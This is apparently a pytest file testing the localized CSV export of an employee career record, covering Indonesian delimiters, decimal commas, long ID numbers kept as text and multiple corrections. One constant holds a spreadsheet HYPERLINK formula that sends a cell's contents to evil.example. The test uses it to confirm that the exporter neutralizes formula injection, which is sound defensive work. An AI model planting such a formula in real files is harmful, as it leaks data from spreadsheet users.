"""The career record's download (/pages/employees/<NIP>/record.csv) opens in columns in a spreadsheet in the page's
language (acceptance walk of 2026-12-02, F13: it was comma-separated, with English headers and every value in one JSON
cell, so Excel set to Indonesian, whose list separator is the semicolon, opened it as a single column). The API's CSV
and `careerlog export` stay as they are: machine-readable."""

from __future__ import annotations

import csv
import io

import pytest

from tests import factories as f
from tests.functional.conftest import BUDI, SARI, World
from tests.functional.test_pages_auth import log_in
from tests.functional.test_pages_career import corrected_and_trained

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


@pytest.fixture
def store_url(database_url: str) -> str:
    """Both stores: SQLite and PostgreSQL."""
    return database_url


def download(world: World, lang: str) -> tuple[str, list[dict[str, str]]]:
    answer = world.client.get(f"/pages/employees/{BUDI}/record.csv?lang={lang}")
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    text = answer.get_data(as_text=True)
    assert text.startswith("\ufeff")  # UTF-8 with a byte-order mark: the spreadsheet reads the names right
    delimiter = ";" if lang == "id" else ","
    return text, list(csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def test_the_record_csv_in_indonesian_is_separated_by_semicolons_with_a_column_per_field(world: World) -> None:
    corrected_and_trained(world)
    training = {**f.training("2024-05-10", hours=16, start="2024-05-06", cost="1500000.50"), "reference": FORMULA}
    world.services.ledger.record(BUDI, "training", training, actor="test")
    world.catch_up()
    log_in(world, "hr")
    text, rows = download(world, "id")
    header = text.lstrip("\ufeff").splitlines()[0].split(";")
    assert header[:4] == ["Tanggal berlaku (TMT)", "Dicatat pada (WIB)", "Peristiwa", "Nomor SK atau sertifikat"]
    assert "values" not in header
    assert "{" not in text
    promotion = next(r for r in rows if r["Peristiwa"] == "Kenaikan pangkat")
    assert promotion["Tanggal berlaku (TMT)"] == "2014-04-01"  # a date a spreadsheet reads in any language
    assert promotion["Pangkat baru"] == "III/c (Penata)"
    assert promotion["Dikoreksi pada (WIB)"]
    trainings = [r for r in rows if r["Peristiwa"] == "Pelatihan"]
    assert any(r["Dibatalkan pada (WIB)"] for r in trainings)
    costly = next(r for r in trainings if r["Biaya (rupiah)"])
    assert costly["Biaya (rupiah)"] == "1500000,50"  # a decimal comma, as the Indonesian spreadsheet reads a number
    assert costly["Tanggal mulai"] == "2024-05-06"
    assert costly["Nomor SK atau sertifikat"] == "'" + FORMULA  # never run as a formula (careerlog/spreadsheet.py)


def test_the_record_csv_in_english_is_comma_separated_with_english_headers(world: World) -> None:
    corrected_and_trained(world)
    log_in(world, "hr")
    _text, rows = download(world, "en")
    promotion = next(r for r in rows if r["Event"] == "Rank promotion")
    assert promotion["Effective date (TMT)"] == "2014-04-01"
    assert promotion["New rank"] == "III/c (Penata)"


def test_the_apis_timeline_csv_is_unchanged(world: World) -> None:
    corrected_and_trained(world)
    answer = world.get(f"/api/v1/employees/{BUDI}/timeline?format=csv", "admin")
    header = answer.get_data(as_text=True).lstrip("\ufeff").splitlines()[0]
    assert ";" not in header
    assert "effective_date" in header


def test_the_record_csv_writes_a_mentors_and_a_mentees_nip_as_a_text_a_spreadsheet_keeps(world: World) -> None:
    """Found by an HR writer's pass of 2026-12-05: "NIP pembimbing" was written as a bare 18-digit number, which Excel
    turns into 1.97912E+17 (its last digits lost). Written ="<NIP>", a text Excel keeps whole, as careerlog's import
    reads a NIP back."""
    start = {"mentor_nip": BUDI, "focus": "Kearsipan", "effective_date": "2021-01-04", "reference": "MNT-1"}
    world.services.ledger.record(SARI, "mentoring_start", start, actor="test")
    world.catch_up()
    log_in(world, "hr")
    answer = world.client.get(f"/pages/employees/{SARI}/record.csv?lang=id")
    text = answer.get_data(as_text=True)
    [mentoring] = [r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") if "MNT-1" in str(r)]
    assert mentoring["NIP pembimbing"] == f'="{BUDI}"'
    _, rows = download(world, "id")  # (Budi's: the mentee's NIP alike)
    mentee = [value for row in rows for label, value in row.items() if value and SARI in value]
    assert mentee == [f'="{SARI}"']


def test_a_whole_rupiah_cost_shows_without_decimals_in_the_csv_and_the_page(world: World) -> None:
    """Found by an HR tester: a cost recorded "Rp 350.000,00" (350000.00) was written 350000,00 beside another's
    1500000; a whole amount is written without decimals, one with cents as it is (display only: stored as recorded)."""
    for day, cost in (("2024-05-10", "350000.00"), ("2024-06-10", "1500000"), ("2024-07-10", "1500000.50")):
        world.services.ledger.record(BUDI, "training", f.training(day, cost=cost), actor="test")
    world.catch_up()
    log_in(world, "hr")
    _, rows = download(world, "id")
    costs = [r["Biaya (rupiah)"] for r in rows if r["Peristiwa"] == "Pelatihan" and r["Biaya (rupiah)"]]
    assert sorted(costs) == ["1500000", "1500000,50", "350000"], costs
    page = world.client.get(f"/pages/employees/{BUDI}?lang=id").get_data(as_text=True)
    assert "350.000" in page, page
    assert "350.000,00" not in page, page
    stored = [str(getattr(e, "cost", None)) for e in world.services.ledger.events.get(BUDI)]
    assert "350000.00" in stored, stored


def test_a_fact_corrected_twice_lists_both_times_joined_as_the_cells_beside(world: World) -> None:
    """Found by an HR tester: until 2026-12-06 "Dikoreksi pada (WIB)" of a fact corrected twice was the list of
    times written with a space (`2026-12-06 21:02:30 2026-12-06 21:02:39`, each time holding a space too), where
    the correction references and reasons beside are joined with " | "."""
    ledger = world.services.ledger
    version = ledger.record(
        BUDI, "training", f.training("2024-05-10", hours=16, start="2024-05-06"), actor="test"
    ).version
    ledger.record(BUDI, "correction", f.correction(version, "2024-06-01", hours=20), actor="test")
    ledger.record(BUDI, "correction", f.correction(version, "2024-06-02", hours=24), actor="test")
    world.catch_up()
    log_in(world, "hr")
    _text, rows = download(world, "id")
    (training,) = [r for r in rows if r["No. catatan"] == str(version)]
    times = training["Dikoreksi pada (WIB)"].split(" | ")
    assert len(times) == 2, training
    assert all(len(t) == len("2026-12-06 21:02:30") for t in times), training
    assert len(training["Nomor SK koreksi"].split(" | ")) == 2, training
